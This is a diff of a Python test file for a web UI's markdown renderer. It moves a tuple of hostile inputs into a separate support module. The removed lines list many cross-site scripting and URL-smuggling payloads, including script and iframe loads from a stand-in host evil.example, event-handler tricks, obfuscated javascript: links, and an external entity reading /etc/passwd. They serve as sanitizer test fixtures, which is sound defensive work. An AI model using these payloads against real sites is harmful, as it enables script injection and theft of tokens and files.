@@ -8,6 +8,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from tests.support.hostile_markdown import ONLY_TEXT
 from webui.markdown import ATTRIBUTES, LONGEST, TAGS, render
 
 EVIL = "https://evil.example/steal"
@@ -64,75 +65,6 @@ def read(text: str) -> Read:
             assert has.get("title", "") == (has["href"] if outside else "")
     assert not HIDDEN.search(page.text)
     return page
-
-
-# Nothing of these may become anything but text: no element, no link.
-ONLY_TEXT = (
-    "<script>fetch('/rpc')</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert&lpar;1&rpar;</script></svg>",
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-    "<iframe src=//evil.example></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<base href=//evil.example>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
-    '<p style="background:url(//evil.example)">x</p>',
-    "<form action=//evil.example><input name=token autofocus onfocus=alert(1)><button>Allow</button></form>",
-    "<button formaction=javascript:alert(1)>Allow</button>",
-    "<img id=body name=getElementById>",
-    "<a id=citation-1 name=allow class=inquiry data-inquiry=x>",
-    "<object data=//evil.example></object><embed src=//evil.example>",
-    "<video src=//evil.example autoplay></video><audio src=//evil.example>",
-    "<details open ontoggle=alert(1)>",
-    "<body onload=alert(1)><marquee onstart=alert(1)>",
-    "<template><img src=x onerror=alert(1)></template>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
-    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-    "<a href=javascript:alert(1)>click</a>",
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](  javascript:alert(1))",
-    "[click](&#106;avascript:alert(1))",
-    "[click](java&#10;script:alert(1))",
-    "[click](\x01javascript:alert(1))",
-    "[click](javascript&colon;alert(1))",
-    "[click](vbscript:msgbox(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[click](data:image/png;base64,AAAA)",
-    "[click](file:///etc/passwd)",
-    "[click](blob:http://127.0.0.1/x)",
-    "[click](//evil.example)",
-    "[click](/rpc)",
-    "[click](../inquiries/x?allow)",
-    "[click](#waiting)",
-    "[click](\\\\evil.example\\share)",
-    "[click](http:evil.example)",
-    "[click](http:\\\\evil.example)",
-    "[click](http://good.example@evil.example)",
-    "[click](http://good.example:secret@evil.example/)",
-    "[click](http://)",
-    "[click](https://evil.example:port/)",
-    "[click](mailto:a@b.example?attach=/etc/passwd)",
-    "[click](ms-msdt:/id)",
-    "<javascript:alert(1)>",
-    "<data:text/html,x>",
-    "![x](javascript:alert(1))",
-    "[click]: javascript:alert(1)\n\n[click]",
-    "[click]\n\n[click]: https-is-no-address",
-    "[a](<javascript:alert(1)>)",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;img src=x onerror=alert(1)&#62;",
-    "javascript:alert(1) data:text/html,x //evil.example www.evil.example",
-)  # fmt: skip
 
 
 @pytest.mark.parametrize("text", ONLY_TEXT)
